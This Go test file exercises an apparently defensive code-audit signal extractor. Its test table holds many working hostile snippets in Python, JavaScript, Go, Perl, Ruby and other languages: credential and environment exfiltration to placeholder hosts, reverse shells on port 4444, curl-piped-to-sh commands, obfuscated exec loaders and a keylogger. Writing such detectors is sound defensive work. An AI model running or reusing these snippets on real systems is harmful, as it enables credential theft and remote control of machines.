package code

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vadehq/vade/internal/audit/signal"
	"github.com/vadehq/vade/internal/audit/signal/signaltest"
)

// signalsOf dumps the signals in code and in the strings it embeds.
func signalsOf(lang, src string) string {
	s := signaltest.Region("a", signal.Code, lang, src)
	out := signaltest.Extract(s, New())
	for _, r := range s.Regions[1:] {
		out += fmt.Sprintf("%s: %s\n", r.Lang, r.Text)
	}
	return out
}

// TestFiles tracks a secret through a file that another script reads.
func TestFiles(t *testing.T) {
	s := signaltest.Region("a", signal.Code, "py", "import shutil\nshutil.copy('/home/me/.ssh/id_rsa', 'cache.bin')")
	other := s.Regions[0]
	other.Text = "import requests\nrequests.post('http://203.0.113.9', data=open('cache.bin').read())"
	s.Regions = append(s.Regions, other)
	if got := signaltest.Extract(s, New()); !matches(got, "send credential ip") {
		t.Error(got)
	}
}

// TestFlows tracks values through code. Each line lists the expected signals, followed by the
// unexpected ones after a "!".
func TestFlows(t *testing.T) {
	for _, c := range []struct{ name, lang, src, want string }{
		{"all of the environment", "py", "import os, requests\nrequests.post('https://files.example/in', json=dict(os.environ))\n", "send env-all"},
		{"without an import", "py", "requests.post('https://files.example/in', json=dict(os.environ))\n", "send env-all"},
		{"a key in a header", "py", "import os, requests\nk = os.environ['X_API_KEY']\nr = requests.post('https://api.x.example/v1', headers={'Authorization': f'Bearer {k}'}, json={'a': 1})\nprint(r.json())", "send env-secret header"},
		{"the environment of a program", "py", "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'A': '1'})\n", "!send"},
		{"names of their own", "py", "from os import environ as e\nimport urllib.request as u\ndef pack(x):\n    return {k: v for k, v in x.items() if 'KEY' in k}\ndata = pack(e)\nreq = u.Request('http://203.0.113.9/c', data=str(data).encode())\nu.urlopen(req)\n", "send env-all ip"},
		{"a secret file", "py", "import requests\nfrom pathlib import Path\np = Path.home() / '.ssh' / 'id_rsa'\nrequests.put('https://files.example', data=p.read_text())\n", "send credential"},
		{"secret files in a loop", "py", "import os, requests\nout = []\nfor f in ['~/.aws/credentials', '~/.netrc']:\n    with open(os.path.expanduser(f)) as fh:\n        out.append(fh.read())\nrequests.post('https://files.example', data='\\n'.join(out))\n", "send credential"},
		{"a stream", "py", "import socket,os\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\ns.send(str(os.environ).encode())", "send env-all ip"},
		{"a shell on a stream", "py", "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')", "connect ip shell"},
		{"commands from a stream", "py", "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    subprocess.Popen(cmd, shell=True)", "run ip network shell"},
		{"commands from who connects", "py", "import socket, os\ns = socket.socket()\ns.bind(('', 99))\nconn, who = s.accept()\nos.popen(conn.recv(99).decode())", "run listen network shell"},
		{"a service in the background", "py", "import os\nfd = os.open(os.devnull, os.O_RDWR)\nos.dup2(fd, 0)\nos.dup2(fd, 1)", "!connect"},
		{"decoded code", "py", "import base64\nexec(base64.b64decode('cHJpbnQoMSkgIyBhIHRlc3Q='))", "py: print(1) # a test"},
		{"decoded code by parts", "py", "g = __import__('base' + '64')\nf = getattr(g, 'b64' + 'decode')\nglobals()['__builtins__']\nrun = getattr(__builtins__, ''.join(['e', 'x', 'ec']))\nrun(f(DATA))", "run decoded evaluated"},
		{"decoded command", "py", "import os, base64\nos.system(base64.b64decode('Y3VybCBodHRwczovL2ZpbGVzLmV4YW1wbGUgfCBzaA==').decode())", "sh: curl https://files.example"},
		{"xor in a loop", "py", "def d(b, k):\n    return bytes(x ^ k for x in b)\nexec(d(DATA, 7))", "run decoded evaluated"},
		{"xor of what is known", "py", "exec(bytes(x ^ 7 for x in [119, 117, 110, 105, 115, 47, 54, 46]))", "py: print(1)"},
		{"fetched code", "py", "import requests\nr = requests.get('https://files.example/a.py')\nif r.ok:\n    exec(r.text)", "run evaluated network unknown"},
		{"fetched and loaded", "py", "import pickle, urllib.request\nm = pickle.loads(urllib.request.urlopen('https://files.example/m').read())", "run loaded network"},
		{"fetched, written and run", "py", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.example/t', '/tmp/tool')\nsubprocess.run(['/tmp/tool', '-v'])", "run network unknown stored"},
		{"a model is no code", "py", "import torch\nmodel.eval()\nre.compile(x)\ncursor.execute(requests.get(u).text)", "!run"},
		{"one value after another", "py", "x = open('/home/a/.ssh/id_rsa').read()\ncheck(x)\nx = 'a'\nimport requests\nrequests.post('https://files.example', data=x)", "!send credential"},
		{"a command", "py", "import subprocess as sp\nsp.run('curl -s https://files.example/i | sh', shell=True)", "sh: curl -s https://files.example/i | sh"},
		{"a digest", "py", "import hashlib, requests, os\nrequests.post('https://files.example', data=hashlib.sha256(os.environ['A_SECRET'].encode()).hexdigest())", "!env-secret placeholder"},
		{"a choice of environments", "py", "import os, subprocess\ndef run(cmd, env=None):\n    e = env if env is not None else os.environ\n    return subprocess.run(cmd, env=e)\n", "!send"},
		{"a variable in a command", "py", "import os\nos.system('curl -d ' + os.environ['A_TOKEN'] + ' http://203.0.113.9')", "sh: curl -d $A_TOKEN http://203.0.113.9"},
		{"safe objects", "py", "import yaml, requests\nyaml.load(requests.get('https://x.example/a').text, Loader=yaml.SafeLoader)", "!run"},
		{"the clipboard", "py", "import pyperclip, requests\nrequests.post('https://x.example', data=pyperclip.paste())", "send clipboard"},
		{"keys", "py", "from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    log.append(str(key))\n    requests.post('https://x.example', data=''.join(log))\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()", "sabotage keylogger"},
		{"several keys", "py", "import os, httpx\nNAMES = ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']\nhttpx.post('https://keys.example/check', json={n: os.getenv(n) for n in NAMES})", "AWS_SECRET_ACCESS_KEY in"},
		{"a function for each of its arguments", "py", "import os\ndef run(c, s='sh'):\n    os.system(c + ' | ' + s)\nrun('curl -s http://203.0.113.9/a')\nrun('curl -s http://203.0.113.9/b', s='bash')", "sh: curl -s http://203.0.113.9/b | bash"},
		{"a function that is defined later", "js", "start('curl -s http://203.0.113.9/i | sh');\nfunction start(c) { require('child_process').execSync(c) }", "sh: curl -s http://203.0.113.9/i | sh"},
		{"a function without an end", "py", "import os\ndef a(x):\n    return b(x)\ndef b(x):\n    os.system(x)\n    return a(x)\na('curl -s http://203.0.113.9/i | sh')", "sh: curl -s http://203.0.113.9/i | sh"},
		{"a program of a thread", "py", "import os, threading\nthreading.Thread(target=os.system, args=('curl -s http://203.0.113.9/i | sh',)).start()", "sh: curl -s http://203.0.113.9/i | sh"},
		{"a module by another name", "go", "package main\n\nimport (\n\te \"os/exec\"\n)\n\nfunc run(cmd string) { e.Command(\"sh\", \"-c\", cmd).Run() }\n\nfunc main() { run(\"curl -s http://203.0.113.9/i | sh\") }\n", "sh: sh -c 'curl -s http://203.0.113.9/i | sh'"},
		{"names in brackets", "py", "import importlib\nnet = importlib.import_module(''.join(['re', 'quests']))\nimport os\ngetattr(net, 'po' + 'st')('https://x.example/v1', json=dict(os.environ))", "obfuscated name"},
		{"a file for the start of Python", "py", "lines = []\nlines.append(\n    \"import os; exec(__import__('zlib').decompress(__import__('urllib.request')\"\n    \".request.urlopen('https://x.example/ca.z').read()))\"\n)\nopen('x.pth', 'w').write(lines[0])", "run decoded evaluated network"},
		{"output of a program", "py", "import subprocess, requests\nout = subprocess.check_output(['cat', '/home/me/.ssh/id_rsa'])\nrequests.post('https://x.example', data=out)", "send credential"},

		{"all of it", "js", "const https = require('https');\nconst req = https.request({hostname: 'files.example', method: 'POST', path: '/c'}, () => {});\nreq.write(JSON.stringify(process.env));\nreq.end();", "send env-all"},
		{"fetch", "js", "import { env as e } from 'process';\nawait fetch(`https://files.example/${x}`, { method: 'POST', body: JSON.stringify({ ...e }) })", "send env-all"},
		{"a key of one's own", "js", "const key = process.env.X_API_KEY;\nconst r = await fetch('https://api.x.example', { headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify(q) });", "send env-secret header"},
		{"a program's environment", "js", "const { spawn } = require('child_process');\nspawn('npm', ['test'], { env: { ...process.env, CI: '1' } });", "!send"},
		{"fetched code, by callbacks", "js", "fetch('https://files.example/a.js').then(r => r.text()).then(t => eval(t));", "run evaluated network"},
		{"fetched in pieces", "js", "const http = require('http');\nhttp.get('http://203.0.113.9/p', res => { let d = ''; res.on('data', c => { d += c }); res.on('end', () => { new Function(d)() }) });", "run evaluated ip network"},
		{"decoded", "js", "const c = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(c)", "js: console.log(1)"},
		{"decoded by name", "js", "globalThis['ev' + 'al'](atob(s))", "run decoded evaluated"},
		{"decoded by constructor", "js", "[]['constructor']['constructor'](atob('YWxlcnQoMSk='))()", "js: alert(1)"},
		{"a command", "js", "const { execSync: x } = require('node:child_process');\nx('curl -s https://files.example/i | bash');", "sh: curl -s https://files.example/i | bash"},
		{"a stream", "js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) });", "connect ip shell"},
		{"a secret file", "js", "import fs from 'fs/promises'; import path from 'path'; import os from 'os';\nconst k = await fs.readFile(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');\nawait axios.post('https://files.example', { k });", "send credential"},
		{"a declaration without a body", "ts", "declare function send(a: string): void;\nsend(process.env.A);\nfetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });", "send env-all"},
		{"a block that ends in a function", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nconst r = (async function send", "send env-all"},
		{"a call of a function cut off", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nfunction late(a: string): Promise<string>\nlate('x', late)", "send env-all"},
		{"overloads", "ts", "function send(a: string): void;\nfunction send(a: object): void;\nfunction send(a) { fetch('https://files.example', { method: 'POST', body: a }) }\nsend(JSON.stringify(process.env))", "send env-all"},
		{"overloads of a method", "ts", "class A {\nsend(a: string): void;\nsend(a: object): void;\nsend(a) { fetch('https://files.example', { method: 'POST', body: a }) }\ngo() { this.send(JSON.stringify(process.env)) }\n}", "send env-all"},
		{"a pattern is no code", "js", "const m = /a/.exec(await (await fetch(u)).text());", "!run"},
		{"a picked variable", "js", "const config = { ...process.env };\nconst r = await fetch(`${config.BASE_URL}/items`, { method: 'POST', headers: { 'X-Key': config.SERVICE_API_KEY }, body: '{}' });", "!env-all"},
		{"names put together", "js", "const c = require('chil' + 'd_process');\nconst e = process['e' + 'nv'];\nc['exe' + 'c']('curl http://203.0.113.9 -d ' + e.TOKEN)", "sh: curl http://203.0.113.9 -d $TOKEN"},
		{"escapes", "js", "const e = process['\\x65\\x6e\\x76'];\nfetch('https://x.example', {method: 'POST', body: JSON.stringify(e)})", "send env-all"},

		{"system", "rb", "cmd = \"curl -s http://203.0.113.9/i | sh\"\nsystem(cmd)", "sh: curl -s http://203.0.113.9/i | sh"},
		{"%x", "rb", "puts %x{curl -s http://203.0.113.9/i | sh}", "sh: curl -s http://203.0.113.9/i | sh"},
		{"backticks", "rb", "x = `curl -s #{host} | sh`", "sh: curl -s ${value} | sh"},
		{"environment", "rb", "require 'net/http'\nNet::HTTP.post(URI('http://203.0.113.9/c'), ENV.to_h.to_json)", "send env-all ip"},
		{"system", "pl", "my $c = \"curl -s http://203.0.113.9/i | sh\";\nsystem($c);", "sh: curl -s http://203.0.113.9/i | sh"},
		{"qx", "pl", "my $r = qx{curl -s http://203.0.113.9/i | sh};", "sh: curl -s http://203.0.113.9/i | sh"},
		{"eval", "pl", "use MIME::Base64; eval(decode_base64('cHJpbnQgMTsgIyB0ZXN0'));", "pl: print 1; # test"},
		{"a reverse shell", "pl", "use Socket;$i='203.0.113.8';$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');};", "connect"},
		{"eval", "php", "<?php eval(gzinflate(base64_decode($x)));", "run decoded evaluated"},
		{"os.execute", "lua", "local c = 'curl -s http://203.0.113.9/i'\nos.execute(c .. ' | sh')", "sh: curl -s http://203.0.113.9/i | sh"},
		{"load", "lua", "local http = require('socket.http')\nload(http.request('http://203.0.113.9/i'))()", "run evaluated ip network"},
		{"exec.Command", "go", "package main\n\nimport \"os/exec\"\n\nfunc main() {\n\texec.Command(\"sh\", \"-c\", \"curl -s http://203.0.113.9/i | sh\").Run()\n}\n", "sh: sh -c 'curl -s http://203.0.113.9/i | sh'"},
		{"fetched and run", "go", "resp, err := http.Get(\"http://203.0.113.9/i\")\nb, _ := io.ReadAll(resp.Body)\nexec.Command(\"bash\", \"-c\", string(b)).Run()", "run ip network plain shell"},
		{"fetched, written and run", "go", "resp, _ := http.Get(\"http://203.0.113.9/i\")\nb, _ := io.ReadAll(resp.Body)\nos.WriteFile(\"/tmp/a\", b, 0o755)\nexec.Command(\"/tmp/a\").Start()", "run ip network plain stored"},
		{"environment", "go", "body := strings.Join(os.Environ(), \"\\n\")\nhttp.Post(\"http://203.0.113.9/c\", \"text/plain\", strings.NewReader(body))", "send env-all ip"},
		{"a shell on a stream", "go", "c, _ := net.Dial(\"tcp\", \"203.0.113.9:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()", "connect ip shell"},
		{"exec", "java", "public class P { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[] {\"bash\", \"-c\", \"curl -s http://203.0.113.9/i | sh\"}); } }", "sh: bash -c 'curl -s http://203.0.113.9/i | sh'"},
		{"ProcessBuilder", "kt", "fun main() { ProcessBuilder(\"bash\", \"-c\", \"curl -s http://203.0.113.9/i | sh\").start() }", "sh: bash -c 'curl -s http://203.0.113.9/i | sh'"},
		{"Process.Start", "cs", "Process.Start(\"/bin/bash\", \"-c 'curl -s http://203.0.113.9/i | sh'\");", "sh: /bin/bash -c 'curl -s http://203.0.113.9/i | sh'"},
		{"system", "c", "#include <stdlib.h>\nint main(void) { char *c = \"curl -s http://203.0.113.9/i\" \" | sh\"; system(c); }", "sh: curl -s http://203.0.113.9/i | sh"},
		{"do shell script", "scpt", "set u to \"http://203.0.113.9/i\"\ndo shell script \"curl -s \" & u & \" | sh\" with administrator privileges", "sh: curl -s http://203.0.113.9/i | sh"},
		{"Run", "vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"curl -s http://203.0.113.9/i\", 0, True ' run it", "sh: curl -s http://203.0.113.9/i"},
		{"system", "r", "x <- 'http://203.0.113.9/i'\nsystem(paste0('curl -s ', x, ' | sh'))", "sh: curl -s http://203.0.113.9/i | sh"},
		{"a file that is a URL", "r", "eval(parse(text = readLines(file = 'http://203.0.113.9/i.R')))", "run ip evaluated network"},
		{"source", "r", "source('http://203.0.113.9/i.R')", "run ip loaded network plain"},
	} {
		got := signalsOf(c.lang, c.src)
		want, not := strings.CutPrefix(c.want, "!")
		if found := matches(got, want); found == not {
			t.Errorf("%s, %s: want %s, got:\n%s", c.lang, c.name, c.want, got)
		}
	}
}

// matches reports whether dump contains want, or has a line with the same kind and tags.
func matches(dump, want string) bool {
	if strings.Contains(dump, want) {
		return true
	}
	words := strings.Fields(want)
	for line := range strings.Lines(dump) {
		head, _, _ := strings.Cut(line, ": ")
		have := strings.Fields(head)
		found := len(have) > 1 && have[1] == words[0]
		for _, w := range words[1:] {
			ok := false
			for _, h := range have {
				ok = ok || h == w
			}
			found = found && ok
		}
		if found {
			return true
		}
	}
	return false
}
